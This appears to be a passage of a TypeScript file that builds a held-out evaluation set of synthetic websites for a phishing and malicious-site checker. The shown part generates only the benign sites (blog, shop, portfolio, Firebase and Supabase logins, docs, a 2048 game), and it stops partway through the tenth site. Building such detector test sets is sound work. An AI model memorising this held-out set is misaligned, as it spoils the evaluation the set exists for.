/**
 * The second held-out set (docs/content-check.md "Evaluation", session 65): written blind, from
 * knowledge of real sites and real phishing kits, without reading the check's code or the other
 * parts' sites. Ordinary sites are things people publish (blogs, shops, forms through Formspree,
 * EmailJS, Netlify, Mailchimp, Google Forms and Apps Script, Firebase and Supabase logins, games,
 * tools, dapps); hostile sites collect people's credentials, card and ID numbers, recovery phrases
 * or funds, or push malware and scam redirects, with the behaviour hidden as kits hide it.
 */
import {
  BOOTSTRAP_CSS,
  BOOTSTRAP_JS,
  b64,
  charCodes,
  type EvalSite,
  esbuildBundle,
  JQUERY,
  obfuscate,
  page,
  type Rng,
  viteBuild,
} from './kit.js';

/** page() with lang="en". */
const en = (title: string, head: string, body: string) =>
  page(title, head, body).replace('<html lang="zh-CN">', '<html lang="en">');

const ordinary = (name: string, what: string, files: EvalSite['files']): EvalSite => ({
  group: 'ordinary',
  name,
  what,
  files,
});
const hostile = (name: string, what: string, files: EvalSite['files']): EvalSite => ({
  group: 'hostile',
  name,
  what,
  files,
});

const SITE_CSS = `*{box-sizing:border-box}body{margin:0;font:16px/1.6 -apple-system,"PingFang SC","Microsoft YaHei",sans-serif;color:#222}
header,footer{padding:16px 24px;background:#f6f7f9}main{max-width:880px;margin:0 auto;padding:24px}
a{color:#0b66c3}nav a{margin-right:16px}.btn{display:inline-block;padding:8px 16px;border-radius:6px;background:#0b66c3;color:#fff;border:0}
input,textarea,select{display:block;width:100%;padding:8px;margin:6px 0 12px;border:1px solid #ccc;border-radius:4px}`;

// ---------------------------------------------------------------------------------------------
// Ordinary sites
// ---------------------------------------------------------------------------------------------

export async function heldOut2Ordinary(r: Rng): Promise<EvalSite[]> {
  const sites: EvalSite[] = [];
  const gaId = `G-${r.word(10).toUpperCase()}`;

  // 1. A Hugo blog (Chinese): several pages, giscus comments, busuanzi counter, gtag, KaTeX,
  // a Fuse.js search over its own index.json, dark mode in localStorage.
  {
    const nav = `<header><a href="/">木木的笔记</a> <nav><a href="/posts/">文章</a><a href="/search/">搜索</a><a href="/about/">关于</a></nav><button id="theme">🌓</button></header>`;
    const head = `<link rel="stylesheet" href="/css/main.css"><link rel="alternate" type="application/rss+xml" href="/index.xml">
<script async src="https://www.googletagmanager.com/gtag/js?id=${gaId}"></script>
<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}gtag('js',new Date());gtag('config','${gaId}');</script>
<script async src="//busuanzi.ibruce.info/busuanzi/2.3/busuanzi.pure.mini.js"></script>
<script src="/js/main.js" defer></script>`;
    const footer = `<footer>© 2024 木木 · 本站总访问量 <span id="busuanzi_value_site_pv"></span> 次 · <a href="https://beian.miit.gov.cn/">京ICP备2021012345号-1</a></footer>`;
    const posts = [
      ['rust-async', 'Rust 异步编程入门：从 Future 到 Tokio', '这篇文章记录我学习 async/await 的过程。'],
      [
        'linear-regression',
        '用最小二乘法推导线性回归',
        '给定数据 $(x_i, y_i)$，我们希望最小化 $\\sum (y_i - wx_i - b)^2$。',
      ],
      ['nas-setup', '家用 NAS 折腾记：群晖 + Docker', '去年双十一入手了一台 DS920+，这里记录一下配置。'],
    ];
    const files: EvalSite['files'] = {
      'index.html': page(
        '木木的笔记',
        head,
        `${nav}<main><h1>最新文章</h1>${posts.map(([slug, t, d], i) => `<article><h2><a href="/posts/${slug}/">${t}</a></h2><p>${d}</p><time>2024-0${i + 3}-12</time></article>`).join('\n')}</main>${footer}`,
      ),
      'about/index.html': page(
        '关于 - 木木的笔记',
        head,
        `${nav}<main><h1>关于我</h1><p>后端程序员，坐标杭州。喜欢 Rust、摄影和徒步。</p><p>邮箱：mumu(at)example.cn · <a href="https://github.com/mumu-notes">GitHub</a></p></main>${footer}`,
      ),
      'search/index.html': page(
        '搜索 - 木木的笔记',
        `${head}<script src="https://cdn.jsdelivr.net/npm/fuse.js@7.0.0"></script><script src="/js/search.js" defer></script>`,
        `${nav}<main><h1>搜索</h1><input id="q" placeholder="输入关键词…" autofocus><ul id="results"></ul></main>${footer}`,
      ),
      'index.json': JSON.stringify(
        posts.map(([slug, title, summary]) => ({ permalink: `/posts/${slug}/`, title, summary })),
      ),
      'index.xml': `<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>木木的笔记</title>${posts.map(([s, t]) => `<item><title>${t}</title><link>https://mumu.example.cn/posts/${s}/</link></item>`).join('')}</channel></rss>`,
      'css/main.css': `${SITE_CSS}\n.dark body{background:#1b1d21;color:#ddd}`,
      'js/main.js': `(function(){var root=document.documentElement;var saved=localStorage.getItem('theme');if(saved==='dark'||(!saved&&matchMedia('(prefers-color-scheme: dark)').matches))root.classList.add('dark');
document.getElementById('theme').addEventListener('click',function(){root.classList.toggle('dark');localStorage.setItem('theme',root.classList.contains('dark')?'dark':'light');});
document.querySelectorAll('pre').forEach(function(pre){var b=document.createElement('button');b.textContent='复制';b.className='copy';b.onclick=function(){navigator.clipboard.writeText(pre.innerText).then(function(){b.textContent='已复制';setTimeout(function(){b.textContent='复制'},1500)})};pre.appendChild(b);});})();`,
      'js/search.js': `fetch('/index.json').then(function(r){return r.json()}).then(function(data){var fuse=new Fuse(data,{keys:['title','summary'],threshold:0.4});var q=document.getElementById('q'),ul=document.getElementById('results');
q.addEventListener('input',function(){ul.innerHTML='';fuse.search(q.value).slice(0,10).forEach(function(hit){var li=document.createElement('li');li.innerHTML='<a href="'+hit.item.permalink+'">'+hit.item.title+'</a>';ul.appendChild(li);});});});`,
    };
    for (const [slug, title, summary] of posts) {
      files[`posts/${slug}/index.html`] = page(
        `${title} - 木木的笔记`,
        `${head}<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/katex@0.16.9/dist/katex.min.css"><script defer src="https://cdn.jsdelivr.net/npm/katex@0.16.9/dist/katex.min.js"></script><script defer src="https://cdn.jsdelivr.net/npm/katex@0.16.9/dist/contrib/auto-render.min.js" onload="renderMathInElement(document.body)"></script>`,
        `${nav}<main><article><h1>${title}</h1><p>${summary}</p><pre><code>async fn fetch_user(id: u64) -> Result&lt;User&gt; {
    let resp = reqwest::get(format!("https://api.example.com/users/{id}")).await?;
    Ok(resp.json().await?)
}</code></pre><p>阅读量 <span id="busuanzi_value_page_pv"></span></p></article>
<script src="https://giscus.app/client.js" data-repo="mumu-notes/blog-comments" data-repo-id="R_kgDOJ${r.word(6)}" data-category="Announcements" data-category-id="DIC_kwDOJ${r.word(8)}" data-mapping="pathname" data-reactions-enabled="1" data-theme="preferred_color_scheme" data-lang="zh-CN" crossorigin="anonymous" async></script></main>${footer}`,
      );
    }
    sites.push(
      ordinary('o2-hugo-blog-zh', 'Hugo 博客：giscus、不蒜子、gtag、KaTeX、Fuse 搜索、复制按钮', files),
    );
  }

  // 2. A React portfolio (esbuild bundle) whose contact form posts JSON to Formspree.
  {
    const formId = r.word(8);
    const app = `import React, { useState } from 'react';
import { createRoot } from 'react-dom/client';
const projects = [
  { name: 'Trailmap', text: 'Offline hiking maps for Android', url: 'https://github.com/janedoe/trailmap' },
  { name: 'Pixel Sorter', text: 'Glitch art in the browser with WebGL', url: 'https://janedoe.github.io/pixel-sorter' },
  { name: 'Budget CLI', text: 'Plain-text accounting, in Go', url: 'https://github.com/janedoe/budget' },
];
function Contact() {
  const [state, setState] = useState('idle');
  async function onSubmit(e) {
    e.preventDefault();
    setState('sending');
    const data = Object.fromEntries(new FormData(e.target));
    const res = await fetch('https://formspree.io/f/${formId}', {
      method: 'POST',
      headers: { Accept: 'application/json', 'Content-Type': 'application/json' },
      body: JSON.stringify(data),
    });
    setState(res.ok ? 'sent' : 'error');
    if (res.ok) e.target.reset();
  }
  if (state === 'sent') return <p>Thanks! I'll get back to you within a couple of days.</p>;
  return (
    <form onSubmit={onSubmit}>
      <label>Name<input name="name" required /></label>
      <label>Email<input name="email" type="email" required /></label>
      <label>Message<textarea name="message" rows={5} required /></label>
      <button className="btn" disabled={state === 'sending'}>{state === 'sending' ? 'Sending…' : 'Send'}</button>
      {state === 'error' && <p role="alert">Something went wrong, please email me directly.</p>}
    </form>
  );
}
function App() {
  return (
    <main>
      <h1>Jane Doe — frontend developer</h1>
      <p>I build fast, accessible web apps. Currently at a fintech startup in Lisbon.</p>
      <h2>Projects</h2>
      <ul>{projects.map((p) => <li key={p.name}><a href={p.url}>{p.name}</a> — {p.text}</li>)}</ul>
      <h2>Contact</h2>
      <Contact />
    </main>
  );
}
createRoot(document.getElementById('root')).render(<App />);`;
    sites.push(
      ordinary('o2-react-portfolio', 'React portfolio (esbuild bundle), contact form → Formspree JSON', {
        'index.html': en(
          'Jane Doe — Portfolio',
          `<link rel="preconnect" href="https://fonts.googleapis.com"><link href="https://fonts.googleapis.com/css2?family=Inter:wght@400;700&display=swap" rel="stylesheet"><link rel="stylesheet" href="style.css">`,
          `<div id="root"></div><script src="assets/app.js"></script>`,
        ),
        'style.css': SITE_CSS,
        'assets/app.js': await esbuildBundle(app, { jsx: true }),
      }),
    );
  }

  // 3. A small shop: cart in localStorage, Stripe Checkout redirect with the publishable key,
  // Payment Links for single items.
  {
    const pk = `pk_live_51${r.word(20)}${r.word(20)}`;
    const items = [
      ['mug', 'Speckled stoneware mug', 28, `price_1O${r.word(14)}`],
      ['bowl', 'Ramen bowl, ash glaze', 42, `price_1O${r.word(14)}`],
      ['vase', 'Bud vase (set of 3)', 55, `price_1O${r.word(14)}`],
    ] as const;
    const nav = `<header><a href="index.html">Clay &amp; Kiln</a><nav><a href="shop.html">Shop</a><a href="about.html">About</a><a href="cart.html">Cart (<span id="count">0</span>)</a></nav></header>`;
    const head = `<link rel="stylesheet" href="css/site.css"><script src="js/cart.js" defer></script>`;
    sites.push(
      ordinary('o2-stripe-shop', 'pottery shop: localStorage cart, Stripe Checkout redirect, Payment Links', {
        'index.html': en(
          'Clay & Kiln — handmade ceramics',
          head,
          `${nav}<main><h1>Handmade ceramics from Asheville, NC</h1><p>Small-batch, wheel-thrown, food safe.</p><a class="btn" href="shop.html">Shop the collection</a><p>Gift card: <a href="https://buy.stripe.com/${r.word(14)}">buy a $50 gift card</a></p></main>`,
        ),
        'shop.html': en(
          'Shop — Clay & Kiln',
          head,
          `${nav}<main><h1>Shop</h1>${items.map(([id, n, p]) => `<div class="item"><img src="img/${id}.jpg" alt="${n}"><h3>${n}</h3><p>$${p}</p><button class="btn add" data-id="${id}">Add to cart</button></div>`).join('\n')}</main>`,
        ),
        'about.html': en(
          'About — Clay & Kiln',
          head,
          `${nav}<main><h1>About</h1><p>I'm Maya, a potter working out of a shared studio in the River Arts District.</p><p>Questions? <a href="mailto:hello@clayandkiln.example">hello@clayandkiln.example</a></p></main>`,
        ),
        'cart.html': en(
          'Cart — Clay & Kiln',
          `${head}<script src="https://js.stripe.com/v3/"></script>`,
          `${nav}<main><h1>Your cart</h1><ul id="lines"></ul><p>Total: $<span id="total">0</span></p><button class="btn" id="checkout">Checkout</button><p><small>Payments are processed securely by Stripe.</small></p></main>`,
        ),
        'css/site.css': SITE_CSS,
        'js/cart.js': `const PRODUCTS = ${JSON.stringify(Object.fromEntries(items.map(([id, n, p, price]) => [id, { name: n, amount: p, price }])))};
const load = () => JSON.parse(localStorage.getItem('cart') || '{}');
const save = (c) => { localStorage.setItem('cart', JSON.stringify(c)); render(); };
function render() {
  const cart = load();
  document.getElementById('count').textContent = Object.values(cart).reduce((a, b) => a + b, 0);
  const lines = document.getElementById('lines');
  if (!lines) return;
  lines.innerHTML = '';
  let total = 0;
  for (const [id, qty] of Object.entries(cart)) {
    total += PRODUCTS[id].amount * qty;
    const li = document.createElement('li');
    li.textContent = qty + ' × ' + PRODUCTS[id].name;
    lines.appendChild(li);
  }
  document.getElementById('total').textContent = total;
}
document.querySelectorAll('.add').forEach((b) => b.addEventListener('click', () => { const c = load(); c[b.dataset.id] = (c[b.dataset.id] || 0) + 1; save(c); }));
const checkout = document.getElementById('checkout');
if (checkout) checkout.addEventListener('click', async () => {
  const stripe = Stripe('${pk}');
  const lineItems = Object.entries(load()).map(([id, quantity]) => ({ price: PRODUCTS[id].price, quantity }));
  const { error } = await stripe.redirectToCheckout({
    lineItems, mode: 'payment',
    successUrl: location.origin + '/thanks.html', cancelUrl: location.href,
    shippingAddressCollection: { allowedCountries: ['US', 'CA'] },
  });
  if (error) alert(error.message);
});
render();`,
        'thanks.html': en(
          'Thank you — Clay & Kiln',
          `<link rel="stylesheet" href="css/site.css"><script>localStorage.removeItem('cart')</script>`,
          `<main><h1>Thank you for your order!</h1><p>You'll get a receipt from Stripe by email.</p></main>`,
        ),
      }),
    );
  }

  // 4. A Chinese restaurant: AMap map, reservations through an embedded 金数据 form.
  sites.push(
    ordinary('o2-restaurant-amap', '餐厅官网：高德地图 JS API、金数据预订表单 iframe、电话', {
      'index.html': page(
        '老街坊 · 杭帮菜馆',
        `<link rel="stylesheet" href="style.css"><script src="https://webapi.amap.com/maps?v=2.0&key=${r.word(32)}"></script>`,
        `<header><h1>老街坊 · 杭帮菜馆</h1><p>营业时间 11:00–14:00，17:00–21:30</p></header>
<main><section><h2>招牌菜</h2><ul><li>西湖醋鱼 ¥88</li><li>东坡肉 ¥68</li><li>龙井虾仁 ¥98</li><li>片儿川 ¥26</li></ul></section>
<section><h2>在线订座</h2><iframe src="https://jinshuju.net/f/${r.word(6)}?background=white&banner=hide&embedded=true" width="100%" height="720" frameborder="0"></iframe></section>
<section><h2>地址</h2><p>杭州市上城区河坊街 123 号 · 电话 <a href="tel:0571-8765-4321">0571-8765 4321</a></p><div id="map" style="height:320px"></div>
<p>关注公众号领取优惠券：<img src="qrcode.png" width="120" alt="微信公众号二维码"></p></section></main>
<script>var map=new AMap.Map('map',{zoom:16,center:[120.1686,30.2435]});map.add(new AMap.Marker({position:[120.1686,30.2435],title:'老街坊'}));</script>`,
      ),
      'style.css': SITE_CSS,
    }),
  );

  // 5. A podcast landing page with Mailchimp's embedded signup form.
  {
    const u = r.word(25);
    const id = r.word(10);
    sites.push(
      ordinary(
        'o2-podcast-mailchimp',
        'podcast landing: Mailchimp embed form (list-manage.com), Spotify embed',
        {
          'index.html': en(
            'Off the Clock — a podcast about work and rest',
            `<link rel="stylesheet" href="style.css"><link href="//cdn-images.mailchimp.com/embedcode/classic-061523.css" rel="stylesheet" type="text/css">`,
            `<main><h1>Off the Clock</h1><p>Weekly conversations about burnout, hobbies and the four-day week.</p>
<iframe style="border-radius:12px" src="https://open.spotify.com/embed/show/${r.word(22)}?utm_source=generator" width="100%" height="352" frameborder="0" allow="autoplay; clipboard-write; encrypted-media; fullscreen; picture-in-picture" loading="lazy"></iframe>
<p><a href="https://podcasts.apple.com/us/podcast/off-the-clock/id1${r.int(1e8)}">Apple Podcasts</a> · <a href="/feed.xml">RSS</a></p>
<div id="mc_embed_shell"><div id="mc_embed_signup">
<form action="https://offtheclock.us21.list-manage.com/subscribe/post?u=${u}&amp;id=${id}&amp;f_id=00a1b2e1f0" method="post" id="mc-embedded-subscribe-form" name="mc-embedded-subscribe-form" class="validate" target="_blank">
<div id="mc_embed_signup_scroll"><h2>Get new episodes by email</h2>
<div class="mc-field-group"><label for="mce-EMAIL">Email Address <span class="asterisk">*</span></label><input type="email" name="EMAIL" class="required email" id="mce-EMAIL" required></div>
<div class="mc-field-group"><label for="mce-FNAME">First Name </label><input type="text" name="FNAME" class="text" id="mce-FNAME"></div>
<div id="mce-responses" class="clear"><div class="response" id="mce-error-response" style="display:none"></div><div class="response" id="mce-success-response" style="display:none"></div></div>
<div aria-hidden="true" style="position:absolute;left:-5000px"><input type="text" name="b_${u}_${id}" tabindex="-1" value=""></div>
<div class="clear"><input type="submit" name="subscribe" id="mc-embedded-subscribe" class="button" value="Subscribe"></div></div></form></div>
<script type="text/javascript" src="//s3.amazonaws.com/downloads.mailchimp.com/js/mc-validate.js"></script><script type="text/javascript">(function($) {window.fnames = new Array(); window.ftypes = new Array();fnames[0]='EMAIL';ftypes[0]='email';fnames[1]='FNAME';ftypes[1]='text';}(jQuery));var $mcj = jQuery.noConflict(true);</script></div></main>`,
          ),
          'style.css': SITE_CSS,
          'feed.xml': `<?xml version="1.0"?><rss version="2.0"><channel><title>Off the Clock</title></channel></rss>`,
        },
      ),
    );
  }

  // 6. A photographer's site: EmailJS booking form with name, email, phone, date, message.
  sites.push(
    ordinary(
      'o2-emailjs-photographer',
      'wedding photographer: EmailJS sendForm booking enquiry, lightbox from cdnjs',
      {
        'index.html': en(
          'Lena Moss Photography',
          `<link rel="stylesheet" href="style.css"><link rel="stylesheet" href="https://cdnjs.cloudflare.com/ajax/libs/glightbox/3.2.0/css/glightbox.min.css">
<script src="https://cdnjs.cloudflare.com/ajax/libs/glightbox/3.2.0/js/glightbox.min.js" defer></script>
<script src="https://cdn.jsdelivr.net/npm/@emailjs/browser@4/dist/email.min.js"></script>
<script src="booking.js" defer></script>`,
          `<header><h1>Lena Moss Photography</h1><nav><a href="#portfolio">Portfolio</a><a href="#pricing">Pricing</a><a href="#book">Book</a></nav></header>
<main><section id="portfolio">${[1, 2, 3, 4, 5, 6].map((i) => `<a href="img/w${i}.jpg" class="glightbox"><img src="img/w${i}-thumb.jpg" alt="wedding ${i}"></a>`).join('')}</section>
<section id="pricing"><h2>Packages</h2><p>Elopement (2h) $1,200 · Full day $3,400 · Engagement session $450</p></section>
<section id="book"><h2>Check my availability</h2><form id="booking">
<input name="user_name" placeholder="Your names" required><input name="user_email" type="email" placeholder="Email" required>
<input name="user_phone" type="tel" placeholder="Phone (optional)"><input name="event_date" type="date" required>
<input name="venue" placeholder="Venue / city"><textarea name="message" placeholder="Tell me about your day"></textarea>
<button class="btn">Send enquiry</button><p id="status"></p></form></section></main>`,
        ),
        'booking.js': `emailjs.init({ publicKey: '${r.word(16)}' });
GLightbox({ selector: '.glightbox' });
document.getElementById('booking').addEventListener('submit', function (event) {
  event.preventDefault();
  var status = document.getElementById('status');
  status.textContent = 'Sending…';
  emailjs.sendForm('service_${r.word(7)}', 'template_${r.word(7)}', this).then(function () {
    status.textContent = 'Thank you! I will reply within 48 hours.';
    event.target.reset();
  }, function (error) {
    status.textContent = 'Sorry, that failed (' + error.text + '). Please email hello@lenamoss.example.';
  });
});`,
        'style.css': SITE_CSS,
      },
    ),
  );

  // 7. A shared grocery list on Firebase with the real compat SDK: email/password sign-in.
  {
    const proj = `grocery-${r.word(5)}`;
    sites.push(
      ordinary(
        'o2-firebase-grocery',
        'shared grocery list: Firebase Auth email/password + Google, Firestore (gstatic SDK)',
        {
          'index.html': en(
            'Shared Groceries',
            `<link rel="stylesheet" href="style.css">
<script src="https://www.gstatic.com/firebasejs/10.12.2/firebase-app-compat.js"></script>
<script src="https://www.gstatic.com/firebasejs/10.12.2/firebase-auth-compat.js"></script>
<script src="https://www.gstatic.com/firebasejs/10.12.2/firebase-firestore-compat.js"></script>`,
            `<main><h1>🛒 Shared Groceries</h1>
<section id="signed-out"><form id="login"><input id="email" type="email" placeholder="Email" autocomplete="username" required>
<input id="password" type="password" placeholder="Password" autocomplete="current-password" required>
<button class="btn">Sign in</button> <button type="button" id="signup">Create account</button> <button type="button" id="google">Sign in with Google</button>
<p><a href="#" id="reset">Forgot password?</a></p><p id="err" role="alert"></p></form></section>
<section id="signed-in" hidden><p>Signed in as <b id="who"></b> <button id="logout">Sign out</button></p>
<form id="add"><input id="item" placeholder="Add an item"></form><ul id="list"></ul></section></main>
<script src="app.js"></script>`,
          ),
          'app.js': `firebase.initializeApp({
  apiKey: 'AIzaSy${r.word(33)}',
  authDomain: '${proj}.firebaseapp.com',
  projectId: '${proj}',
  storageBucket: '${proj}.appspot.com',
  messagingSenderId: '${r.int(1e12)}',
  appId: '1:${r.int(1e12)}:web:${r.word(22)}'
});
const auth = firebase.auth();
const db = firebase.firestore();
const $ = (id) => document.getElementById(id);
const show = (e) => { $('err').textContent = e.message; };
$('login').addEventListener('submit', (e) => {
  e.preventDefault();
  auth.signInWithEmailAndPassword($('email').value, $('password').value).catch(show);
});
$('signup').onclick = () => auth.createUserWithEmailAndPassword($('email').value, $('password').value).catch(show);
$('google').onclick = () => auth.signInWithPopup(new firebase.auth.GoogleAuthProvider()).catch(show);
$('reset').onclick = (e) => { e.preventDefault(); auth.sendPasswordResetEmail($('email').value).then(() => alert('Check your inbox')).catch(show); };
$('logout').onclick = () => auth.signOut();
let unsub = null;
auth.onAuthStateChanged((user) => {
  $('signed-out').hidden = !!user;
  $('signed-in').hidden = !user;
  if (unsub) unsub();
  if (!user) return;
  $('who').textContent = user.email;
  unsub = db.collection('lists').doc('household').collection('items').orderBy('added').onSnapshot((snap) => {
    $('list').innerHTML = '';
    snap.forEach((doc) => { const li = document.createElement('li'); li.textContent = doc.data().name; li.onclick = () => doc.ref.delete(); $('list').appendChild(li); });
  });
});
$('add').addEventListener('submit', (e) => {
  e.preventDefault();
  db.collection('lists').doc('household').collection('items').add({ name: $('item').value, by: auth.currentUser.uid, added: firebase.firestore.FieldValue.serverTimestamp() });
  $('item').value = '';
});`,
          'style.css': SITE_CSS,
        },
      ),
    );
  }

  // 8. A notes app on Supabase (Chinese): supabase-js from jsDelivr as an ES module, password
  // and magic-link sign-in.
  {
    const ref = r.word(20);
    sites.push(
      ordinary(
        'o2-supabase-notes',
        '笔记应用：supabase-js（jsDelivr ESM）邮箱密码/魔法链接登录，行级权限的 notes 表',
        {
          'index.html': page(
            '随手记',
            `<link rel="stylesheet" href="style.css">`,
            `<main><h1>随手记</h1>
<div id="auth"><h2>登录</h2><form id="signin"><input id="email" type="email" placeholder="邮箱" required><input id="pw" type="password" placeholder="密码" required>
<button class="btn">登录</button> <button type="button" id="magic">发送登录链接到邮箱</button> <button type="button" id="register">注册</button></form><p id="msg"></p></div>
<div id="app" hidden><p><span id="me"></span> <button id="out">退出</button></p><textarea id="text" rows="4" placeholder="写点什么…"></textarea><button id="save" class="btn">保存</button><ul id="notes"></ul></div></main>
<script type="module" src="main.js"></script>`,
          ),
          'main.js': `import { createClient } from 'https://cdn.jsdelivr.net/npm/@supabase/supabase-js@2/+esm';
const supabase = createClient('https://${ref}.supabase.co', 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.${b64(JSON.stringify({ iss: 'supabase', ref, role: 'anon' })).replace(/=+$/, '')}.${r.word(43)}');
const $ = (s) => document.querySelector(s);
$('#signin').addEventListener('submit', async (e) => {
  e.preventDefault();
  const { error } = await supabase.auth.signInWithPassword({ email: $('#email').value, password: $('#pw').value });
  $('#msg').textContent = error ? '登录失败：' + error.message : '';
});
$('#register').onclick = async () => {
  const { error } = await supabase.auth.signUp({ email: $('#email').value, password: $('#pw').value });
  $('#msg').textContent = error ? error.message : '请查收验证邮件';
};
$('#magic').onclick = async () => {
  const { error } = await supabase.auth.signInWithOtp({ email: $('#email').value, options: { emailRedirectTo: location.href } });
  $('#msg').textContent = error ? error.message : '登录链接已发送';
};
$('#out').onclick = () => supabase.auth.signOut();
async function load() {
  const { data } = await supabase.from('notes').select('id, body, created_at').order('created_at', { ascending: false });
  $('#notes').innerHTML = (data || []).map((n) => '<li>' + n.body.replace(/</g, '&lt;') + '</li>').join('');
}
$('#save').onclick = async () => { await supabase.from('notes').insert({ body: $('#text').value }); $('#text').value = ''; load(); };
supabase.auth.onAuthStateChange((_event, session) => {
  $('#auth').hidden = !!session; $('#app').hidden = !session;
  if (session) { $('#me').textContent = session.user.email; load(); }
});`,
          'style.css': SITE_CSS,
        },
      ),
    );
  }

  // 9. Docs for an auth library: several pages, DocSearch, copy buttons, and code samples that
  // show login requests, passwords and tokens as escaped text.
  {
    const nav = `<aside><a href="index.html">Introduction</a><a href="quickstart.html">Quickstart</a><a href="config.html">Configuration</a><a href="api.html">API reference</a></aside>`;
    const head = `<link rel="stylesheet" href="assets/docs.css"><link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/@docsearch/css@3"><link rel="stylesheet" href="https://cdnjs.cloudflare.com/ajax/libs/highlight.js/11.9.0/styles/github.min.css">
<script src="https://cdnjs.cloudflare.com/ajax/libs/highlight.js/11.9.0/highlight.min.js" defer></script><script src="https://cdn.jsdelivr.net/npm/@docsearch/js@3" defer></script><script src="assets/docs.js" defer></script>`;
    const doc = (title: string, body: string) =>
      en(
        `${title} — gatekeeper docs`,
        head,
        `<header><b>gatekeeper</b> <select id="ver"><option>v3</option><option>v2</option></select><div id="docsearch"></div></header>${nav}<main>${body}</main>`,
      );
    sites.push(
      ordinary(
        'o2-auth-lib-docs',
        'docs site for an auth library: DocSearch, highlight.js, copy buttons, login samples in <pre>',
        {
          'index.html': doc(
            'Introduction',
            `<h1>gatekeeper</h1><p>Session and token authentication for Node.js servers. Argon2 password hashing, rotating refresh tokens, WebAuthn.</p>`,
          ),
          'quickstart.html': doc(
            'Quickstart',
            `<h1>Quickstart</h1><pre><code class="language-bash">npm install gatekeeper</code></pre>
<p>On the client, post the credentials to your own server:</p>
<pre><code class="language-js">const res = await fetch('/api/login', {
  method: 'POST',
  headers: { 'Content-Type': 'application/json' },
  credentials: 'include',
  body: JSON.stringify({ email: form.email.value, password: form.password.value }),
});
if (res.ok) location.href = '/dashboard';</code></pre>
<p>A plain HTML form works too:</p>
<pre><code class="language-html">&lt;form method="post" action="/api/login"&gt;
  &lt;input name="email" type="email" autocomplete="username"&gt;
  &lt;input name="password" type="password" autocomplete="current-password"&gt;
  &lt;button&gt;Sign in&lt;/button&gt;
&lt;/form&gt;</code></pre>`,
          ),
          'config.html': doc(
            'Configuration',
            `<h1>Configuration</h1><pre><code class="language-js">export default {
  secret: process.env.GATEKEEPER_SECRET,
  cookie: { sameSite: 'lax', secure: true },
  password: { minLength: 12, hash: 'argon2id' },
  webhooks: { onLogin: 'https://hooks.example.com/login' },
};</code></pre><table><tr><th>Option</th><th>Default</th></tr><tr><td>tokenTtl</td><td>15m</td></tr><tr><td>refreshTtl</td><td>30d</td></tr></table>`,
          ),
          'api.html': doc(
            'API reference',
            `<h1>API reference</h1><h2>verifyPassword(hash, password)</h2><p>Resolves to <code>true</code> when the password matches.</p><h2>issueTokens(user)</h2><pre><code class="language-js">const { accessToken, refreshToken } = await gk.issueTokens(user);
res.cookie('rt', refreshToken, { httpOnly: true });</code></pre>`,
          ),
          'assets/docs.css': `${SITE_CSS}\naside{position:fixed;left:0;top:64px;width:200px}aside a{display:block}main{margin-left:220px}`,
          'assets/docs.js': `docsearch({ container: '#docsearch', appId: '${r.word(10).toUpperCase()}', apiKey: '${r.word(32)}', indexName: 'gatekeeper' });
hljs.highlightAll();
document.querySelectorAll('pre').forEach((pre) => {
  const btn = document.createElement('button');
  btn.className = 'copy'; btn.textContent = 'Copy';
  btn.addEventListener('click', async () => { await navigator.clipboard.writeText(pre.querySelector('code').innerText); btn.textContent = 'Copied!'; setTimeout(() => (btn.textContent = 'Copy'), 1200); });
  pre.appendChild(btn);
});
document.getElementById('ver').addEventListener('change', (e) => { if (e.target.value === 'v2') location.href = 'https://v2.gatekeeper.example/'; });`,
        },
      ),
    );
  }

  // 10. 2048 (esbuild bundle, minified): keyboard and touch input, best score in localStorage.
  {
    const game = `const SIZE = 4;
let grid, score = 0, best = Number(localStorage.getItem('best2048') || 0);
const board = document.getElementById('board');
function reset() { grid = Array.from({ length: SIZE }, () => Array(SIZE).fill(0)); score = 0; spawn(); spawn(); draw(); }
function spawn() { const empty = []; grid.forEach((row, y) => row.forEach((v, x) => { if (!v) empty.push([x, y]); })); if (!empty.length) return; const [x, y] = empty[Math.floor(Math.random() * empty.length)]; grid[y][x] = Math.random() < 0.9 ? 2 : 4; }
function slide(row) { const a = row.filter(Boolean); for (let i = 0; i < a.length - 1; i++) if (a[i] === a[i + 1]) { a[i] *= 2; score += a[i]; a.splice(i + 1, 1); } while (a.length < SIZE) a.push(0); return a; }
const rotate = (g) => g[0].map((_, i) => g.map((r) => r[i]).reverse());
function move(dir) {
  const before = JSON.stringify(grid);
  for (let i = 0; i < dir; i++) grid = rotate(grid);
  grid = grid.map(slide);
  for (let i = 0; i < (4 - dir) % 4; i++) grid = rotate(grid);
  if (JSON.stringify(grid) !== before) { spawn(); if (score > best) { best = score; localStorage.setItem('best2048', String(best)); } draw(); }
}
function draw() {
  board.innerHTML = grid.flat().map((v) => '<div class="tile t' + v + '">' + (v || '') + '</div>').join('');
  document.getElementById('score').textContent = score;
  document.getElementById('best').textContent = best;
}
const KEYS = { ArrowLeft: 0, ArrowDown: 1, ArrowRight: 2, ArrowUp: 3, a: 0, s: 1, d: 2, w: 3 };
document.addEventListener('keydown', (e) => { if (e.key in KEYS) { e.preventDefault(); move(KEYS[e.key]); } });
let sx = 0, sy = 0;
board.addEventListener('touchstart', (e) => { sx = e.touches[0].clientX; sy = e.touches[0].clientY; }, { passive: true });
board.addEventListener('touchend', (e) => { const dx = e.changedTouches[0].clientX - sx, dy = e.changedTouches[0].clientY - sy; if (Math.max(Math.abs(dx), Math.abs(dy)) < 30) return; move(Math.abs(dx) > Math.abs(dy) ? (dx > 0 ? 2 : 0) : dy > 0 ? 1 : 3); });
document.getElementById('new').onclick = reset;
document.getElementById('share').onclick = async () => { const text = 'I scored ' + score + ' in 2048!'; if (navigator.share) await navigator.share({ text, url: location.href }); else { await navigator.clipboard.writeText(text + ' ' + location.href); alert('Copied!'); } };
reset();`;
    sites.push(
      ordinary(
        'o2-2048-game',
        '2048 (esbuild, minified): keydown + touch, localStorage best, share/clipboard',
        {
          'index.html': en(
            '2048',
            `<style>#board{display:grid;grid-template-columns:repeat(4,80px);gap:8px}.tile{height:80px;background:#eee4da;font:bold 28px sans-serif;display:flex;align-items:center;justify-content:center}</style>`,
            `<h1>2048</h1><p>Score <b id="score">0</b> · Best <b id="best">0</b> <button id="new">New game</button> <button id="share">Share</button></p><div id="board"></div><script src="game.js"></script>`,
          ),
          'game.js': await esbuildBundle(game),
        },
